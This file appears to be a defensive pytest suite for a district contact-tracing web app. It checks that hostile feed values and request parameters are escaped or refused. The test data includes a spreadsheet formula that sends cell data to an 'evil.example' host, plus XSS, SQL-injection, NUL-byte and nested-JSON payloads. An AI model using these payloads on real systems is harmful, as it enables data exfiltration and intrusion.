"""Review s5: the district's page attacked with what a hostile compound can put in its
feed and status, and with odd request values (real Flask app, real PostgreSQL)."""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest

from tests.test_district_tracing import REF_A, REF_B, T, event
from tests.test_district_web import (  # noqa: F401  (fixtures)
    app,
    as_user,
    db,
    street,
    web_config,
)

pytest_plugins = ["tests.district_fixtures"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_compounds_formula_in_its_fields_stays_text_in_every_export(as_user, db):  # noqa: F811
    """Held: a hostile compound's feed names a building `=HYPERLINK(...)`, a name `=1+2`
    and a household `@SUM(1)`; its status names the compound with markup. The pages
    escape them; CSV cells start with a quote; the .xlsx has no formula."""
    db.execute("update compounds set name = %s, status = %s where id = 'c2'",
               ["<script>alert(1)</script>",
                json.dumps({"buildings": {"<b>x</b>": "sealed"}})])
    event(db, "c2", "east", T + 7200 + 300, REF_B, building=FORMULA, name="=1+2",
          household="@SUM(1)")
    admin, observer = as_user("admin"), as_user("observer")
    for url in ("/", "/compound/c2", "/orders"):
        body = admin.get(url).get_data(as_text=True)
        assert "<script>alert" not in body and "<b>x</b>" not in body, url
    page = observer.get(f"/tracing?who={REF_A}").get_data(as_text=True)
    assert "HYPERLINK" in page and "<script" not in page
    text = observer.get(f"/tracing/export.csv?who={REF_A}&kind=contacts").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
    book = zipfile.ZipFile(io.BytesIO(observer.get(f"/tracing/export.xlsx?who={REF_A}").data))
    sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert any("HYPERLINK" in s for s in sheets)
    assert not any("<f>" in s or "<f " in s for s in sheets)


@pytest.mark.parametrize("query,status", [
    ("days=100000", 200), ("days=-5", 200), ("minutes=1000000000", 200),
    ("minutes=-1", 200), ("days=1%20or%201=1", 400), ("days=" + "9" * 5000, 400),
    ("minutes=1e9", 400), ("days=NaN", 400),
])
def test_odd_tracing_numbers_are_clamped_or_refused(as_user, db, query, status):  # noqa: F811
    """Held: days and minutes are clamped (1-28 days within the retention, 1-240 min) or
    a 400; never a 500, never SQL."""
    observer = as_user("observer")
    assert observer.get(f"/tracing?who={REF_A}&{query}").status_code == status


@pytest.mark.parametrize("query,status", [
    ({"who": "' or 1=1--"}, 400), ({"who": "a" * 100_000}, 400),
    ({"via": "c1/' or '1'='1"}, 404), ({"via": "c2/" + "x" * 10_000}, 404),
    ({"via": "/"}, 404),
])
def test_sql_in_tracing_parameters_is_data(as_user, db, query, status):  # noqa: F811
    """Held: every statement is parameterised; a quote is a reference not found."""
    assert as_user("observer").get("/tracing", query_string=query).status_code == status
    assert db.execute("select count(*) from events").fetchone()["count"] > 0


def test_a_nul_character_is_a_400_not_a_500_anywhere(app, as_user):  # noqa: F811
    """D5: PostgreSQL's text holds no NUL: a NUL in the sign-in name (anyone, no login),
    a compound id, an audit filter, a tracing `via`, an order's building was a 500."""
    anon = app.test_client()
    page = anon.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf-token" content="([^"]+)"', page).group(1)
    got = {"login": anon.post("/login", data={"username": "adm\x00in", "password": "x",
                                              "csrf": token}).status_code}
    admin = as_user("admin")
    for url in ("/compound/c%001", "/audit?actor=a%00b", "/audit.csv?action=%00",
                "/tracing?via=c1/%00"):
        got[url] = admin.get(url).status_code
    for url, data in [("/orders/building", {"kind": "seal", "compound": "c1",
                                            "building": "7\x00"}),
                      ("/orders/policy", {"policy": "{}", "compound": "c\x001"}),
                      ("/tracing/unmask", {"via": "c1/\x00"})]:
        got[url] = admin.post(url, data={**data, "csrf": admin.csrf}).status_code
    assert set(got.values()) == {400}, got
    assert admin.get("/").status_code == 200


def test_a_compound_naming_itself_as_its_neighbour_is_told_apart_on_the_orders_page(
        as_user, db):  # noqa: F811
    """D6: a compound's name at the district is what its own status says. c2 calling
    itself '一号社区' (c1's name) gave the policy form two boxes '一号社区' and the
    versions table two such rows: the office could send c1's template to c2. Every
    compound is shown by its id beside the name it claims."""
    db.execute("update compounds set name = '一号社区' where id = 'c2'")
    page = as_user("admin").get("/orders").get_data(as_text=True)
    boxes = re.findall(r'<input type="checkbox" name="compound" value="([^"]+)">([^<]*)<',
                       page)
    assert sorted(v for v, _ in boxes) == ["c1", "c2"]
    assert all(f"({cid})" in label for cid, label in boxes), boxes
    rows = re.findall(r'<tr data-compound="([^"]+)"><td>([^<]*)<', page)
    assert rows and all(f"({cid})" in label for cid, label in rows), rows



@pytest.mark.parametrize("text", ['{"a":' * 3000 + "1" + "}" * 3000, "[" * 20000 + "]" * 20000,
                                  '{"code_skew_seconds": 1e400}', "NaN"])
def test_a_policy_template_that_cannot_be_read_is_a_message_not_a_500(as_user, db, text):  # noqa: F811
    """D9: a template of 3,000 nested objects (under the 64 KiB limit) made json.loads
    raise RecursionError, which is no ValueError: a 500 instead of the form's message."""
    admin = as_user("admin")
    r = admin.post("/orders/policy", data={"policy": text, "compound": "c1",
                                           "csrf": admin.csrf})
    assert r.status_code == 302
    assert db.execute("select count(*) from orders").fetchone()["count"] == 0


def test_a_formula_typed_as_a_user_name_stays_text_in_the_audit_export(app, as_user):  # noqa: F811
    """Held: anyone may type `=HYPERLINK(...)` as a name at the sign-in form; its audit
    row reaches the admin's audit.csv quote-prefixed."""
    anon = app.test_client()
    page = anon.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf-token" content="([^"]+)"', page).group(1)
    anon.post("/login", data={"username": FORMULA[:60], "password": "x", "csrf": token})
    text = as_user("admin").get("/audit.csv").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert any("HYPERLINK" in c for c in cells), cells[:40]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]


def test_a_compounds_page_shows_a_spaced_name_masked(as_user, db):  # noqa: F811
    """D10 on a compound's page: an alert whose name came whole from an older hub."""
    from tests.test_district_web import NOW
    event(db, "c1", "north", NOW - 300, REF_A, name="欧 阳 建 国", alert=True)
    page = as_user("observer").get("/compound/c1").get_data(as_text=True)
    assert "欧 阳 * *" in page and "建 国" not in page
